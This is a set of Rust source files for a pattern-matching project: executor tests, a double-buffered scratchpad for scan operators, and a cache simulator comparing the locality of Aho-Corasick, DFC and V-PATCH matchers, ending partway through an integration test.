    fn test_graph(chunk: usize, overlap: bool) -> (ScanGraph, SlotId) {
        let mut b = GraphBuilder::new();
        let slot = b.slot(true);
        b.op(Arc::new(ByteFilter { target: b'x', slot }));
        b.op(Arc::new(EvenVerify {
            slot,
            primed: Default::default(),
        }));
        b.config(GraphConfig { chunk, overlap });
        (b.build(), slot)
    }

    fn run(graph: &ScanGraph, hay: &[u8]) -> (Vec<MatchEvent>, crate::StageCounters) {
        let mut out = Vec::new();
        let counters = with_cached_scratchpad(|pad| {
            graph.run(hay, pad, &mut out);
            pad.counters
        });
        (out, counters)
    }

    fn hay(len: usize) -> Vec<u8> {
        (0..len)
            .map(|i| match i % 97 {
                0 => b'x',
                13 => b'!',
                _ => b'.',
            })
            .collect()
    }

    #[test]
    fn overlap_output_is_identical_to_sequential() {
        let data = hay(10_000);
        for chunk in [32, 64, 256, 4096] {
            let (seq_g, _) = test_graph(chunk, false);
            let (ovl_g, _) = test_graph(chunk, true);
            let (seq, seq_c) = run(&seq_g, &data);
            let (ovl, ovl_c) = run(&ovl_g, &data);
            assert_eq!(seq, ovl, "chunk={chunk}");
            assert_eq!(seq_c.candidates, ovl_c.candidates);
            assert_eq!(seq_c.comparisons, ovl_c.comparisons);
        }
    }

    #[test]
    fn chunking_does_not_change_results() {
        // The raw order interleaves filter-stage events per chunk, so
        // compare the normalized match set (the contract chunking
        // preserves) plus the chunking-invariant counters.
        let data = hay(5_000);
        let (whole_g, _) = test_graph(1 << 20, false);
        let (mut whole, whole_c) = run(&whole_g, &data);
        mpm_patterns::matcher::normalize_matches(&mut whole);
        for chunk in [32, 96, 1024] {
            for overlap in [false, true] {
                let (g, _) = test_graph(chunk, overlap);
                let (mut got, got_c) = run(&g, &data);
                mpm_patterns::matcher::normalize_matches(&mut got);
                assert_eq!(got, whole, "chunk={chunk} overlap={overlap}");
                assert_eq!(got_c.candidates, whole_c.candidates);
                assert_eq!(got_c.comparisons, whole_c.comparisons);
            }
        }
    }

    #[test]
    fn events_interleave_in_chunk_order() {
        // A '!' event in chunk 0 must precede a verify match from chunk 0,
        // which precedes a '!' event from chunk 1, under both schedules.
        let mut data = vec![b'.'; 96];
        data[2] = b'x'; // chunk 0 verify match (even pos)
        data[5] = b'!'; // chunk 0 direct event
        data[40] = b'x'; // chunk 1 verify match
        data[39] = b'!'; // chunk 1 direct event
        for overlap in [false, true] {
            let (g, _) = test_graph(32, overlap);
            let (got, _) = run(&g, &data);
            let positions: Vec<usize> = got.iter().map(|m| m.start).collect();
            assert_eq!(positions, vec![5, 2, 39, 40], "overlap={overlap}");
        }
    }

    #[test]
    fn empty_input_is_a_no_op() {
        let (g, _) = test_graph(64, true);
        let (got, counters) = run(&g, b"");
        assert!(got.is_empty());
        assert_eq!(counters.candidates, 0);
    }

    #[test]
    fn prime_runs_once_per_chunk_when_overlapped() {
        let mut b = GraphBuilder::new();
        let slot = b.slot(true);
        b.op(Arc::new(ByteFilter { target: b'x', slot }));
        let verify = Arc::new(EvenVerify {
            slot,
            primed: Default::default(),
        });
        b.op(verify.clone());
        b.config(GraphConfig {
            chunk: 32,
            overlap: true,
        });
        let g = b.build();
        let data = hay(32 * 5);
        let _ = run(&g, &data);
        assert_eq!(
            verify.primed.load(std::sync::atomic::Ordering::Relaxed),
            5,
            "one prime per chunk"
        );
    }

    #[test]
    fn debug_lists_op_names() {
        let (g, _) = test_graph(64, true);
        let dump = format!("{g:?}");
        assert!(dump.contains("test:byte-filter"));
        assert!(dump.contains("test:even-verify"));
        assert_eq!(g.op_names(), vec!["test:byte-filter", "test:even-verify"]);
    }

    #[test]
    fn config_normalization_aligns_chunk() {
        let cfg = GraphConfig {
            chunk: 100,
            overlap: true,
        }
        .normalize();
        assert_eq!(cfg.chunk % crate::CHUNK_ALIGN, 0);
        assert!(cfg.chunk >= 100);
    }
}
