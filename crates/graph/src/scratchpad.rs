//! The banked scratchpad: typed reusable buffer slots shared by the
//! operators of one [`ScanGraph`](crate::ScanGraph) execution.

use std::cell::RefCell;

use mpm_patterns::MatchEvent;

/// Handle to one scratchpad slot, allocated by
/// [`GraphBuilder::slot`](crate::GraphBuilder::slot). The id is an index
/// into the graph's slot table; ops capture their slot ids at assembly time.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SlotId(pub(crate) usize);

/// Static description of one slot, recorded by the graph builder.
#[derive(Clone, Copy, Debug)]
pub struct SlotSpec {
    /// Counted slots hold *candidate positions*: after each filter pass the
    /// executor adds their write-bank lengths to
    /// [`StageCounters::candidates`]. Auxiliary slots (per-candidate side
    /// values, verify-stage scratch) are uncounted.
    pub counted: bool,
}

/// Counters accumulated over one graph execution, mirroring the fields the
/// engines' legacy `scan_with_stats` paths report.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct StageCounters {
    /// Candidate positions produced by the filter stage (write-bank lengths
    /// of counted slots, summed per chunk).
    pub candidates: u64,
    /// Pattern comparisons performed by the verify stage.
    pub comparisons: u64,
    /// Vector blocks in which the third filter was evaluated (V-PATCH).
    pub filter3_blocks: u64,
    /// Genuinely active lanes over all third-filter evaluations (V-PATCH).
    pub useful_lanes: u64,
    /// Nanoseconds spent in the filter stage.
    pub filter_nanos: u64,
    /// Nanoseconds spent in the verify stage (including priming).
    pub verify_nanos: u64,
}

/// One slot's two banks. `u32` is the one candidate currency every engine
/// speaks (positions, packed side values), so slots are monomorphic.
#[derive(Debug, Default)]
struct SlotPair {
    banks: [Vec<u32>; 2],
    counted: bool,
}

/// Typed, reusable buffers for one graph execution: `u32` slots and match
/// event buffers, each double-banked so the overlapped schedule can fill
/// bank *k* % 2 while draining bank (*k* − 1) % 2.
///
/// Ops address the banks through the executor-maintained cursors: filter
/// ops see the *write* bank ([`Scratchpad::write`], [`Scratchpad::events_mut`]),
/// verify ops see the *read* bank ([`Scratchpad::read`],
/// [`Scratchpad::take_read`]). The `take_*`/`put_*` pairs move a slot's
/// vector out by `mem::take` so an op can hold several slots (or feed them
/// to a legacy kernel signature) without fighting the borrow checker —
/// always put a taken vector back, even when empty.
#[derive(Debug, Default)]
pub struct Scratchpad {
    slots: Vec<SlotPair>,
    events: [Vec<MatchEvent>; 2],
    /// Stage counters for the current execution; ops add to `comparisons`
    /// and the V-PATCH occupancy fields, the executor owns the rest.
    pub counters: StageCounters,
    write_bank: usize,
    read_bank: usize,
}

impl Scratchpad {
    /// Creates an empty scratchpad; the executor sizes it to a graph's slot
    /// table via [`Scratchpad::configure`].
    pub fn new() -> Self {
        Self::default()
    }

    /// Adapts this scratchpad to a graph's slot layout, keeping whatever
    /// buffer capacity is already allocated (the thread-cached pad serves
    /// many graphs).
    pub fn configure(&mut self, specs: &[SlotSpec]) {
        self.slots.truncate(specs.len());
        while self.slots.len() < specs.len() {
            self.slots.push(SlotPair::default());
        }
        for (slot, spec) in self.slots.iter_mut().zip(specs) {
            slot.counted = spec.counted;
        }
    }

    /// Full reset at the start of an execution: clears every bank, every
    /// event buffer and the counters (capacity kept).
    pub fn reset(&mut self) {
        for slot in &mut self.slots {
            slot.banks[0].clear();
            slot.banks[1].clear();
        }
        self.events[0].clear();
        self.events[1].clear();
        self.counters = StageCounters::default();
        self.write_bank = 0;
        self.read_bank = 0;
    }

    /// Points the write cursor at `bank` and clears that bank's slots and
    /// event buffer for the incoming chunk.
    pub(crate) fn begin_write_bank(&mut self, bank: usize) {
        self.write_bank = bank;
        for slot in &mut self.slots {
            slot.banks[bank].clear();
        }
        self.events[bank].clear();
    }

    /// Points the read cursor at `bank` (the bank some earlier chunk's
    /// filter pass filled).
    pub(crate) fn set_read_bank(&mut self, bank: usize) {
        self.read_bank = bank;
    }

    /// Sums the write bank's counted-slot lengths into
    /// [`StageCounters::candidates`]; the executor calls this after each
    /// filter pass.
    pub(crate) fn accumulate_candidates(&mut self) {
        let bank = self.write_bank;
        self.counters.candidates += self
            .slots
            .iter()
            .filter(|s| s.counted)
            .map(|s| s.banks[bank].len() as u64)
            .sum::<u64>();
    }

    /// Appends the read bank's buffered filter-stage events to `out` (in
    /// emission order) and clears the buffer.
    pub(crate) fn drain_read_events(&mut self, out: &mut Vec<MatchEvent>) {
        out.append(&mut self.events[self.read_bank]);
    }

    /// Reserves capacity for `slot` in **both** banks (the executor
    /// double-buffers); for use from [`ScanOp::init`](crate::ScanOp::init).
    pub fn reserve_slot(&mut self, slot: SlotId, capacity: usize) {
        for bank in &mut self.slots[slot.0].banks {
            if bank.capacity() < capacity {
                let grow = capacity - bank.len();
                bank.reserve(grow);
            }
        }
    }

    /// The write-bank vector of `slot` (filter ops append candidates here).
    pub fn write(&mut self, slot: SlotId) -> &mut Vec<u32> {
        &mut self.slots[slot.0].banks[self.write_bank]
    }

    /// The read-bank contents of `slot` (what the verify stage drains).
    pub fn read(&self, slot: SlotId) -> &[u32] {
        &self.slots[slot.0].banks[self.read_bank]
    }

    /// Moves the write-bank vector of `slot` out (leaving an empty vector);
    /// pair with [`Scratchpad::put_write`].
    pub fn take_write(&mut self, slot: SlotId) -> Vec<u32> {
        std::mem::take(&mut self.slots[slot.0].banks[self.write_bank])
    }

    /// Returns a vector taken by [`Scratchpad::take_write`].
    pub fn put_write(&mut self, slot: SlotId, v: Vec<u32>) {
        self.slots[slot.0].banks[self.write_bank] = v;
    }

    /// Moves the read-bank vector of `slot` out (leaving an empty vector);
    /// pair with [`Scratchpad::put_read`].
    pub fn take_read(&mut self, slot: SlotId) -> Vec<u32> {
        std::mem::take(&mut self.slots[slot.0].banks[self.read_bank])
    }

    /// Returns a vector taken by [`Scratchpad::take_read`].
    pub fn put_read(&mut self, slot: SlotId, v: Vec<u32>) {
        self.slots[slot.0].banks[self.read_bank] = v;
    }

    /// The write-bank event buffer: filter-stage ops append their directly
    /// confirmed matches here (never straight to the output), so the
    /// executor can interleave them with verify-stage output in the same
    /// order under both schedules.
    pub fn events_mut(&mut self) -> &mut Vec<MatchEvent> {
        &mut self.events[self.write_bank]
    }
    /// Trims any buffer whose capacity outgrew `limit` entries, releasing
    /// the excess to the allocator (the thread-cache bound).
    fn shrink_to(&mut self, limit: usize) {
        for slot in &mut self.slots {
            for bank in &mut slot.banks {
                if bank.capacity() > limit {
                    bank.shrink_to(limit);
                }
            }
        }
        for events in &mut self.events {
            if events.capacity() > limit {
                events.shrink_to(limit);
            }
        }
    }
}

thread_local! {
    /// Per-thread scratchpad reused by the engines' graph-routed `find_into`
    /// / `scan_with_stats` entry points (same pattern as the legacy
    /// `with_cached_scratch`).
    static CACHED_PAD: RefCell<Scratchpad> = RefCell::new(Scratchpad::new());
}

/// Upper bound on the entries each cached buffer keeps between calls
/// (1 MiB of `u32`s per bank); anything above is released when the cached
/// pad is handed back, so the idle footprint stays bounded.
const MAX_CACHED_CAPACITY: usize = 1 << 18;

/// Runs `f` with this thread's cached [`Scratchpad`], falling back to a
/// transient pad in the re-entrant case. The pad is handed over un-reset
/// (the executor resets it); oversized capacity is trimmed on release.
pub fn with_cached_scratchpad<R>(f: impl FnOnce(&mut Scratchpad) -> R) -> R {
    CACHED_PAD.with(|cell| match cell.try_borrow_mut() {
        Ok(mut pad) => {
            let result = f(&mut pad);
            pad.shrink_to(MAX_CACHED_CAPACITY);
            result
        }
        Err(_) => f(&mut Scratchpad::new()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn two_slot_pad() -> Scratchpad {
        let mut pad = Scratchpad::new();
        pad.configure(&[SlotSpec { counted: true }, SlotSpec { counted: false }]);
        pad
    }

    #[test]
    fn banks_are_independent() {
        let mut pad = two_slot_pad();
        let slot = SlotId(0);
        pad.begin_write_bank(0);
        pad.write(slot).extend_from_slice(&[1, 2, 3]);
        pad.begin_write_bank(1);
        pad.write(slot).push(9);
        pad.set_read_bank(0);
        assert_eq!(pad.read(slot), &[1, 2, 3]);
        pad.set_read_bank(1);
        assert_eq!(pad.read(slot), &[9]);
    }

    #[test]
    fn only_counted_slots_feed_the_candidate_counter() {
        let mut pad = two_slot_pad();
        pad.begin_write_bank(0);
        pad.write(SlotId(0)).extend_from_slice(&[1, 2, 3]);
        pad.write(SlotId(1)).extend_from_slice(&[7, 7]);
        pad.accumulate_candidates();
        assert_eq!(pad.counters.candidates, 3);
    }

    #[test]
    fn take_put_round_trips() {
        let mut pad = two_slot_pad();
        pad.begin_write_bank(0);
        pad.write(SlotId(0)).push(5);
        let v = pad.take_write(SlotId(0));
        assert_eq!(v, vec![5]);
        assert!(pad.write(SlotId(0)).is_empty());
        pad.put_write(SlotId(0), v);
        assert_eq!(pad.write(SlotId(0)).as_slice(), &[5]);
    }

    #[test]
    fn reconfigure_keeps_capacity() {
        let mut pad = two_slot_pad();
        pad.reserve_slot(SlotId(0), 1024);
        let cap = pad.slots[0].banks[0].capacity();
        pad.configure(&[SlotSpec { counted: false }]);
        assert_eq!(pad.slots.len(), 1);
        assert!(pad.slots[0].banks[0].capacity() >= cap);
        assert!(!pad.slots[0].counted);
    }

    #[test]
    fn cached_pad_footprint_is_bounded() {
        with_cached_scratchpad(|pad| {
            pad.configure(&[SlotSpec { counted: true }]);
            pad.reserve_slot(SlotId(0), MAX_CACHED_CAPACITY * 4);
        });
        with_cached_scratchpad(|pad| {
            assert!(pad.slots[0].banks[0].capacity() <= MAX_CACHED_CAPACITY);
            // Re-entrancy falls back to a transient pad instead of panicking.
            let nested_empty = with_cached_scratchpad(|inner| inner.slots.is_empty());
            assert!(nested_empty);
        });
    }
}
