//! Cache-hierarchy simulator used for the locality analysis of the matching
//! engines.
//!
//! The paper's core argument is about *where the data lives*:
//!
//! * Aho-Corasick's dense state-transition table grows far beyond L2/L3 with
//!   realistic rulesets, so its per-byte lookups miss the cache
//!   (§II-A; DFC is reported to take up to 3.8× fewer cache misses);
//! * DFC / S-PATCH / V-PATCH keep their *filters* in L1/L2 and only touch
//!   the large verification tables for the few positions that pass the
//!   filters;
//! * on Xeon-Phi there is **no L3**, so DFC's verification accesses go to
//!   device memory — which is why DFC can be slower than Aho-Corasick on
//!   real traffic there (§V-E), while V-PATCH's better filtering keeps it
//!   ahead.
//!
//! We cannot measure the authors' hardware counters, so this crate replays
//! the engines' *data-structure access streams* through a configurable
//! set-associative, LRU, multi-level cache model ([`CacheSim`]) with
//! Haswell-like and Xeon-Phi-like configurations, and reports per-level hits
//! and misses ([`CacheReport`]). The `cache_ablation` bench binary turns
//! these into the paper's qualitative claims.

#![warn(missing_docs)]

pub mod model;
pub mod replay;

pub use model::{CacheConfig, CacheReport, CacheSim, HitLevel, LevelConfig};
pub use replay::{replay_aho_corasick, replay_dfc, replay_vpatch, ReplayOutcome};
