//! The set-associative, LRU, multi-level cache model.

use serde::Serialize;

/// Geometry of one cache level.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct LevelConfig {
    /// Total capacity in bytes.
    pub size: usize,
    /// Associativity (ways per set).
    pub associativity: usize,
}

impl LevelConfig {
    /// Creates a level configuration.
    pub const fn new(size: usize, associativity: usize) -> Self {
        LevelConfig {
            size,
            associativity,
        }
    }
}

/// A full hierarchy configuration.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CacheConfig {
    /// Display name (used in reports).
    pub name: &'static str,
    /// Cache line size in bytes.
    pub line_size: usize,
    /// L1 data cache.
    pub l1: LevelConfig,
    /// L2 cache.
    pub l2: LevelConfig,
    /// L3 cache, if the platform has one.
    pub l3: Option<LevelConfig>,
}

impl CacheConfig {
    /// The paper's Haswell platform: 32 KB L1d, 256 KB L2, 35 MB L3,
    /// 64-byte lines.
    pub const fn haswell() -> Self {
        CacheConfig {
            name: "haswell",
            line_size: 64,
            l1: LevelConfig::new(32 * 1024, 8),
            l2: LevelConfig::new(256 * 1024, 8),
            l3: Some(LevelConfig::new(35 * 1024 * 1024, 16)),
        }
    }

    /// The paper's Xeon-Phi 3120: 32 KB L1d, 512 KB L2 per core, **no L3**.
    pub const fn xeon_phi() -> Self {
        CacheConfig {
            name: "xeon-phi",
            line_size: 64,
            l1: LevelConfig::new(32 * 1024, 8),
            l2: LevelConfig::new(512 * 1024, 8),
            l3: None,
        }
    }
}

/// Which level served an access.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum HitLevel {
    /// Served from L1.
    L1,
    /// Served from L2.
    L2,
    /// Served from L3.
    L3,
    /// Missed the whole hierarchy (DRAM / device memory).
    Memory,
}

/// One set-associative level with LRU replacement.
#[derive(Clone, Debug)]
struct Level {
    sets: Vec<Vec<u64>>, // per set: tags in LRU order (front = most recent)
    ways: usize,
    set_shift: u32,
    set_mask: u64,
}

impl Level {
    fn new(config: LevelConfig, line_size: usize) -> Self {
        let lines = config.size / line_size;
        // Round the set count down to a power of two so the index mask is a
        // simple AND; real capacities that are not powers of two (e.g. a
        // 35 MB L3) are modelled slightly conservatively.
        let raw_sets = (lines / config.associativity).max(1);
        let sets = 1usize << raw_sets.ilog2();
        Level {
            sets: vec![Vec::with_capacity(config.associativity); sets],
            ways: config.associativity,
            set_shift: line_size.trailing_zeros(),
            set_mask: (sets - 1) as u64,
        }
    }

    /// Returns true on hit; on miss the line is installed (allocate-on-miss).
    fn access(&mut self, addr: u64) -> bool {
        let line = addr >> self.set_shift;
        let set_idx = (line & self.set_mask) as usize;
        let tag = line >> self.set_mask.count_ones();
        let set = &mut self.sets[set_idx];
        if let Some(pos) = set.iter().position(|&t| t == tag) {
            // Move to MRU position.
            let t = set.remove(pos);
            set.insert(0, t);
            true
        } else {
            set.insert(0, tag);
            if set.len() > self.ways {
                set.pop();
            }
            false
        }
    }
}

/// Per-level access counts for one replay.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize)]
pub struct CacheReport {
    /// Total accesses issued.
    pub accesses: u64,
    /// Accesses served by L1.
    pub l1_hits: u64,
    /// Accesses served by L2.
    pub l2_hits: u64,
    /// Accesses served by L3.
    pub l3_hits: u64,
    /// Accesses that reached memory.
    pub memory_accesses: u64,
}

impl CacheReport {
    /// Accesses that missed L1 (the paper's headline "cache misses" metric
    /// compares L1-miss counts between algorithms).
    pub fn l1_misses(&self) -> u64 {
        self.accesses - self.l1_hits
    }

    /// Accesses that missed the last cache level and had to go to memory.
    pub fn llc_misses(&self) -> u64 {
        self.memory_accesses
    }

    /// L1 miss ratio in `[0, 1]`.
    pub fn l1_miss_ratio(&self) -> f64 {
        if self.accesses == 0 {
            0.0
        } else {
            self.l1_misses() as f64 / self.accesses as f64
        }
    }
}

/// A multi-level cache simulator.
#[derive(Clone, Debug)]
pub struct CacheSim {
    config: CacheConfig,
    l1: Level,
    l2: Level,
    l3: Option<Level>,
    report: CacheReport,
}

impl CacheSim {
    /// Creates a simulator for `config`.
    pub fn new(config: CacheConfig) -> Self {
        CacheSim {
            l1: Level::new(config.l1, config.line_size),
            l2: Level::new(config.l2, config.line_size),
            l3: config.l3.map(|c| Level::new(c, config.line_size)),
            config,
            report: CacheReport::default(),
        }
    }

    /// The configuration this simulator models.
    pub fn config(&self) -> &CacheConfig {
        &self.config
    }

    /// Simulates one data access at byte address `addr` and returns the level
    /// that served it. All levels on the path allocate the line (inclusive
    /// hierarchy, allocate-on-miss).
    pub fn access(&mut self, addr: u64) -> HitLevel {
        self.report.accesses += 1;
        if self.l1.access(addr) {
            self.report.l1_hits += 1;
            return HitLevel::L1;
        }
        if self.l2.access(addr) {
            self.report.l2_hits += 1;
            return HitLevel::L2;
        }
        if let Some(l3) = &mut self.l3 {
            if l3.access(addr) {
                self.report.l3_hits += 1;
                return HitLevel::L3;
            }
        }
        self.report.memory_accesses += 1;
        HitLevel::Memory
    }

    /// Simulates an access covering `len` bytes starting at `addr` (each
    /// distinct cache line is accessed once). Returns the slowest level
    /// touched.
    pub fn access_range(&mut self, addr: u64, len: usize) -> HitLevel {
        let line = self.config.line_size as u64;
        let first = addr / line;
        let last = (addr + len.max(1) as u64 - 1) / line;
        let mut worst = HitLevel::L1;
        for l in first..=last {
            let level = self.access(l * line);
            worst = worse(worst, level);
        }
        worst
    }

    /// The accumulated report.
    pub fn report(&self) -> CacheReport {
        self.report
    }
}

fn rank(level: HitLevel) -> u8 {
    match level {
        HitLevel::L1 => 0,
        HitLevel::L2 => 1,
        HitLevel::L3 => 2,
        HitLevel::Memory => 3,
    }
}

fn worse(a: HitLevel, b: HitLevel) -> HitLevel {
    if rank(a) >= rank(b) {
        a
    } else {
        b
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn repeated_access_hits_l1() {
        let mut sim = CacheSim::new(CacheConfig::haswell());
        assert_eq!(sim.access(0x1000), HitLevel::Memory);
        assert_eq!(sim.access(0x1000), HitLevel::L1);
        assert_eq!(sim.access(0x1010), HitLevel::L1, "same 64-byte line");
        let r = sim.report();
        assert_eq!(r.accesses, 3);
        assert_eq!(r.l1_hits, 2);
        assert_eq!(r.memory_accesses, 1);
    }

    #[test]
    fn working_set_larger_than_l1_falls_to_l2() {
        let mut sim = CacheSim::new(CacheConfig::haswell());
        // 64 KB working set: double the 32 KB L1, fits easily in L2.
        let addrs: Vec<u64> = (0..1024u64).map(|i| i * 64).collect();
        for &a in &addrs {
            sim.access(a);
        }
        // Second sweep: everything fits in L2, but only half can be in L1.
        for &a in &addrs {
            sim.access(a);
        }
        let r = sim.report();
        assert_eq!(r.memory_accesses, 1024, "first sweep is all cold misses");
        assert_eq!(r.l1_hits + r.l2_hits, 1024, "second sweep never leaves L2");
        assert!(r.l2_hits > 0);
    }

    #[test]
    fn phi_config_has_no_l3() {
        let mut sim = CacheSim::new(CacheConfig::xeon_phi());
        // Working set of 4 MB: larger than L2 (512 KB), would fit Haswell L3.
        let addrs: Vec<u64> = (0..65536u64).map(|i| i * 64).collect();
        for _ in 0..2 {
            for &a in &addrs {
                sim.access(a);
            }
        }
        let phi = sim.report();
        assert_eq!(phi.l3_hits, 0);
        assert!(
            phi.memory_accesses > addrs.len() as u64,
            "second sweep also misses"
        );

        let mut sim = CacheSim::new(CacheConfig::haswell());
        for _ in 0..2 {
            for &a in &addrs {
                sim.access(a);
            }
        }
        let hsw = sim.report();
        assert!(
            hsw.l3_hits >= addrs.len() as u64,
            "Haswell L3 absorbs the second sweep"
        );
        assert!(hsw.memory_accesses < phi.memory_accesses);
    }

    #[test]
    fn lru_evicts_least_recently_used_way() {
        // Tiny custom config: 4-line, 2-way, 2-set cache → each set holds 2 lines.
        let config = CacheConfig {
            name: "tiny",
            line_size: 64,
            l1: LevelConfig::new(4 * 64, 2),
            l2: LevelConfig::new(16 * 64, 2),
            l3: None,
        };
        let mut sim = CacheSim::new(config);
        // Addresses mapping to the same set (stride = 2 lines * 64 = 128).
        let a = 0u64;
        let b = 128;
        let c = 256;
        sim.access(a);
        sim.access(b);
        sim.access(a); // a is now MRU
        sim.access(c); // evicts b (LRU)
        assert_eq!(sim.access(a), HitLevel::L1);
        assert_ne!(sim.access(b), HitLevel::L1, "b was evicted");
    }

    #[test]
    fn access_range_touches_every_line() {
        let mut sim = CacheSim::new(CacheConfig::haswell());
        // 200 bytes spanning 4 lines starting mid-line.
        sim.access_range(60, 200);
        assert_eq!(sim.report().accesses, 5);
    }

    #[test]
    fn report_invariants() {
        let mut sim = CacheSim::new(CacheConfig::haswell());
        for i in 0..10_000u64 {
            sim.access((i * 37) % 100_000);
        }
        let r = sim.report();
        assert_eq!(
            r.accesses,
            r.l1_hits + r.l2_hits + r.l3_hits + r.memory_accesses
        );
        assert!(r.l1_miss_ratio() >= 0.0 && r.l1_miss_ratio() <= 1.0);
    }
}
