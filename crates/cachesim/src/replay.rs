//! Replays the matching engines' data-structure access streams through the
//! cache model.
//!
//! The model concentrates on the accesses that differ between the
//! algorithms — the lookups into their matching data structures. Input-bytes
//! accesses are identical (sequential) for every engine and are therefore
//! omitted; this mirrors how the paper discusses cache behaviour purely in
//! terms of the automaton / filters / hash tables.
//!
//! Each data structure is placed in its own region of the simulated address
//! space so structures never falsely share cache lines.

use crate::model::{CacheConfig, CacheReport, CacheSim};
use mpm_aho_corasick::DfaMatcher;
use mpm_dfc::Dfc;
use mpm_patterns::Matcher;
use mpm_vpatch::SPatch;

/// Region stride between data structures in the simulated address space
/// (far larger than any structure, so regions never overlap).
const REGION: u64 = 1 << 30;

/// Bytes per compact-hash-table bucket header in the address model. The real
/// DFC implementation keeps a header array of one small record per bucket
/// (2^16 buckets for the long table), which is the part of the verification
/// structure touched on *every* verification, so it dominates the working
/// set; entries and pattern bytes are touched afterwards.
const BUCKET_HEADER_BYTES: u64 = 16;

/// Models one verification access into a compact hash table: the bucket
/// header plus the start of the bucket's entry list.
fn touch_table(
    sim: &mut CacheSim,
    base: u64,
    table: &mpm_verify::CompactHashTable,
    input: &[u8],
    pos: usize,
) {
    if let Some(bucket) = table.bucket_of(input, pos) {
        sim.access_range(base + bucket as u64 * BUCKET_HEADER_BYTES, 16);
        sim.access_range(
            base + REGION / 4 + table.bucket_offset_bytes(bucket) as u64,
            16,
        );
    }
}

/// Result of a replay: the cache report plus the number of matches the
/// engine found (sanity check that the replay executed the real algorithm).
#[derive(Clone, Copy, Debug)]
pub struct ReplayOutcome {
    /// Per-level hit/miss counts of the engine's data-structure accesses.
    pub report: CacheReport,
    /// Matches found during the replay.
    pub matches: u64,
}

/// Replays an Aho-Corasick (full DFA) scan: one transition-table access per
/// input byte, at the address of the current state's row entry.
pub fn replay_aho_corasick(dfa: &DfaMatcher, input: &[u8], config: CacheConfig) -> ReplayOutcome {
    let mut sim = CacheSim::new(config);
    let table_base = 0u64;
    // The engine reads table[state * 256 + byte] (4 bytes inside the current
    // state's row) for every input byte; `walk` hands us the state sequence,
    // from which we reconstruct the address of each lookup.
    let mut prev_state = 0u32;
    dfa.walk(input, |i, state| {
        let byte = input[i];
        let addr = table_base + dfa.row_offset_bytes(prev_state) as u64 + (byte as u64) * 4;
        sim.access_range(addr, 4);
        prev_state = state;
    });
    let matches = dfa.count(input);
    ReplayOutcome {
        report: sim.report(),
        matches,
    }
}

/// Replays a DFC scan: one initial-filter access per window, plus
/// hash-table accesses for windows that pass the filter.
pub fn replay_dfc(dfc: &Dfc, input: &[u8], config: CacheConfig) -> ReplayOutcome {
    let mut sim = CacheSim::new(config);
    let filter_base = REGION;
    let table_base = 2 * REGION;
    let tables = dfc.tables();
    let filter = tables.initial_filter();
    let long_table = tables.long_table();
    if input.is_empty() {
        return ReplayOutcome {
            report: sim.report(),
            matches: 0,
        };
    }
    for i in 0..input.len() - 1 {
        let window = u16::from_le_bytes([input[i], input[i + 1]]);
        // Filter lookup: one byte of the 8 KB bitmap.
        sim.access_range(filter_base + (window >> 3) as u64, 1);
        if filter.contains(window) {
            // Verification: read the bucket of the long-pattern table
            // (the dominant verification structure; short tables are tiny).
            touch_table(&mut sim, table_base, long_table, input, i);
        }
    }
    let matches = dfc.count(input);
    ReplayOutcome {
        report: sim.report(),
        matches,
    }
}

/// Replays an S-PATCH / V-PATCH scan: merged-filter access per window,
/// third-filter access for windows that pass filter 2, and verification
/// accesses only for positions that pass the third filter.
pub fn replay_vpatch(engine: &SPatch, input: &[u8], config: CacheConfig) -> ReplayOutcome {
    let mut sim = CacheSim::new(config);
    let merged_base = REGION;
    let filter3_base = 2 * REGION;
    let table_base = 3 * REGION;
    let tables = engine.tables();
    let verifier = tables.verifier();
    if input.is_empty() {
        return ReplayOutcome {
            report: sim.report(),
            matches: 0,
        };
    }
    let n = input.len();
    for i in 0..n - 1 {
        let window = u16::from_le_bytes([input[i], input[i + 1]]);
        // One gather touches the two interleaved filter bytes.
        sim.access_range(merged_base + 2 * (window >> 3) as u64, 2);
        if tables.filter1().contains(window) {
            touch_table(&mut sim, table_base, verifier.short_table(), input, i);
        }
        if tables.filter2().contains(window) && i + 4 <= n {
            let w4 = u32::from_le_bytes([input[i], input[i + 1], input[i + 2], input[i + 3]]);
            let h = mpm_verify::hash32(w4, tables.filter3().bits_log2());
            sim.access_range(filter3_base + (h >> 3) as u64, 1);
            if tables.filter3().contains(w4) {
                touch_table(
                    &mut sim,
                    table_base + REGION / 2,
                    verifier.long_table(),
                    input,
                    i,
                );
            }
        }
    }
    let matches = engine.count(input);
    ReplayOutcome {
        report: sim.report(),
        matches,
    }
}
