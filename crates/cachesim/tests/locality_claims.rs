//! Integration tests reproducing the paper's qualitative cache-locality
//! claims with the cache simulator.

use mpm_aho_corasick::DfaMatcher;
use mpm_cachesim::{replay_aho_corasick, replay_dfc, replay_vpatch, CacheConfig, CacheSim};
use mpm_dfc::Dfc;
use mpm_patterns::synthetic::{RulesetSpec, SyntheticRuleset};
use mpm_patterns::Matcher;
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};
use mpm_vpatch::SPatch;
use proptest::prelude::*;

fn workload() -> (mpm_patterns::PatternSet, Vec<u8>) {
    let rs = SyntheticRuleset::generate(RulesetSpec {
        total_patterns: 1_500,
        http_fraction: 0.8,
        short_fraction: 0.12,
        seed: 77,
    });
    let set = rs.http();
    let trace = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, 300_000), Some(&set));
    (set, trace)
}

#[test]
fn filtering_engines_miss_far_less_than_aho_corasick() {
    let (set, trace) = workload();
    let dfa = DfaMatcher::build(&set);
    let dfc = Dfc::build(&set);
    let spatch = SPatch::build(&set);
    let expected = dfa.count(&trace);

    let ac = replay_aho_corasick(&dfa, &trace, CacheConfig::haswell());
    let dfc_r = replay_dfc(&dfc, &trace, CacheConfig::haswell());
    let vp = replay_vpatch(&spatch, &trace, CacheConfig::haswell());

    // All replays drive the real engines: same match counts.
    assert_eq!(ac.matches, expected);
    assert_eq!(dfc_r.matches, expected);
    assert_eq!(vp.matches, expected);

    // Paper §II-B: DFC takes up to 3.8x fewer cache misses than AC; here we
    // only require a clear separation (the exact ratio depends on the trace
